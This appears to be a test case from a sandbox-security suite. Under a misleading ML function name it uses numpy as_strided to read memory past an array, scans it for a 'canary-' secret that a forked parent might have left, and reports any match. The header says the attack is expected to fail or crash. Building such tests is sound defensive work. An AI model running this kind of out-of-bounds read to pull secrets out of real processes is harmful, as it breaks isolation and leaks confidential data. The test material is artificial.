# goal: read this process's memory beyond an array, where secrets of a parent could have been left by a fork
# must: incorrect | error crashed

import re

import numpy as np

from tools import attack, tell


@attack
def naive_softmax_loss_and_gradient():
    seen = np.lib.stride_tricks.as_strided(np.zeros(1, np.uint8), shape=(1 << 22,), strides=(1,))
    found = re.search(rb"canary-[0-9a-f]{16}", seen.tobytes())
    if found:
        tell(found[0])
